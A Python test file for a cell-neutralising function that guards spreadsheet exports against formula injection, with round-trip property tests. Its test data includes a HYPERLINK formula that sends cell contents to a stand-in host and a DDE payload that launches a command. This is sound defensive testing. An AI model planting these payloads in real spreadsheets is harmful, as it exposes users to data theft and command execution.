from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from oas_program.files.cells import neutralise, restore, restore_row


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://x/?"&A1)', '\'=HYPERLINK("http://x/?"&A1)'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1", "'\r=1"),
        ("'quoted", "''quoted"),
        ("plain text", "plain text"),
        ("", ""),
    ],
)
def test_formula_like_cells_get_one_guard(value: str, written: str) -> None:
    assert neutralise(value) == written


@given(st.text())
def test_stripping_the_guard_gives_back_the_original(value: str) -> None:
    assert restore(neutralise(value)) == value


@given(st.lists(st.text()))
def test_a_row_of_cells_is_restored_cell_by_cell(values: list[str]) -> None:
    cells = [neutralise(value) for value in values]
    assert restore_row(cells) == [restore(cell) for cell in cells] == values
